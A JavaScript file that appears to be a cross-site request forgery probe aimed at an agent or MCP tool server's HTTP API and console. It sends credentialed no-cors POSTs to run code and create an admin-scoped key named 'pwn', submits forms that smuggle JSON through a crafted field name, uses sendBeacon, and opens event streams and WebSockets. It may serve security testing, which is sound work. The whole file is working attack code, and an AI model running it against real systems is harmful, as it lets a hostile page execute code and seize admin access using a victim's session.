/** Everything a page can send to another origin without asking it first. Runs in a browser. */
globalThis.tryEverything = async (target, token) => {
  const done = [];
  const program = JSON.stringify({ code: "return 1" });
  const key = JSON.stringify({ name: "pwn", scopes: ["admin"] });
  const said = (name, sending) =>
    sending.then((answer) => answer.type, (error) => `${error}`)
      .then((heard) => done.push(`${name}: ${heard}`));
  const post = (path, body, type) =>
    fetch(target + path, {
      method: "POST",
      mode: "no-cors",
      credentials: "include",
      body,
      headers: type === undefined ? {} : { "content-type": type },
    });
  for (const type of ["text/plain", "application/x-www-form-urlencoded"]) {
    await said(`execute ${type}`, post("/api/v1/execute", program, type));
    await said(`key ${type}`, post("/api/v1/keys", key, type));
  }
  await said("blob", post("/api/v1/keys", new Blob([key])));
  await said("no body", post("/api/v1/policy/reload"));
  await said("approve", post("/api/v1/tools/orders.list/block"));
  await said("mcp", post("/mcp", `{"jsonrpc":"2.0","id":1,"method":"tools/list"}`, "text/plain"));
  await said("delete", fetch(`${target}/api/v1/keys/x`, { method: "DELETE" }));
  await said(
    "json",
    fetch(`${target}/api/v1/keys`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: key,
    }),
  );
  await said("read", fetch(`${target}/api/v1/audit`, { credentials: "include" }));
  for (const type of ["text/plain", "application/json", ""]) {
    navigator.sendBeacon(`${target}/api/v1/execute`, new Blob([program], { type }));
  }
  for (
    const enctype of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]
  ) {
    for (const path of ["/api/v1/keys", "/console/theme", "/console/catalog/decide"]) {
      const frame = document.createElement("iframe");
      frame.name = `frame-${done.length}`;
      const form = document.createElement("form");
      Object.assign(form, { method: "post", enctype, action: target + path, target: frame.name });
      const fields = {
        '{"name":"form","scopes":["admin"],"x': '":1}',
        token,
        decision: "block",
        server: "orders",
        name: "list",
        theme: "dark",
      };
      for (const [name, value] of Object.entries(fields)) {
        const input = document.createElement("input");
        Object.assign(input, { name, value });
        form.append(input);
      }
      document.body.append(frame, form);
      const loaded = new Promise((resolve) => frame.onload = resolve);
      form.submit();
      await loaded;
      done.push(`form ${enctype} ${path}`);
    }
  }
  for (const [tag, path] of [["iframe", "/console/catalog"], ["img", "/console/connect/x"]]) {
    const element = document.createElement(tag);
    const over = new Promise((resolve) => element.onload = element.onerror = resolve);
    element.setAttribute("src", target + path);
    document.body.append(element);
    await over;
    done.push(`${tag}`);
  }
  const events = new EventSource(`${target}/console/executions/stream`, { withCredentials: true });
  await new Promise((resolve) => {
    events.onmessage = () => resolve(done.push("events: READ"));
    events.onerror = () => resolve(done.push("events: refused"));
  });
  events.close();
  const socket = new WebSocket(`${target.replace("http", "ws")}/mcp`);
  await new Promise((resolve) => {
    socket.onopen = () => resolve(done.push("socket: OPEN"));
    socket.onerror = () => resolve(done.push("socket: refused"));
  });
  return done;
};
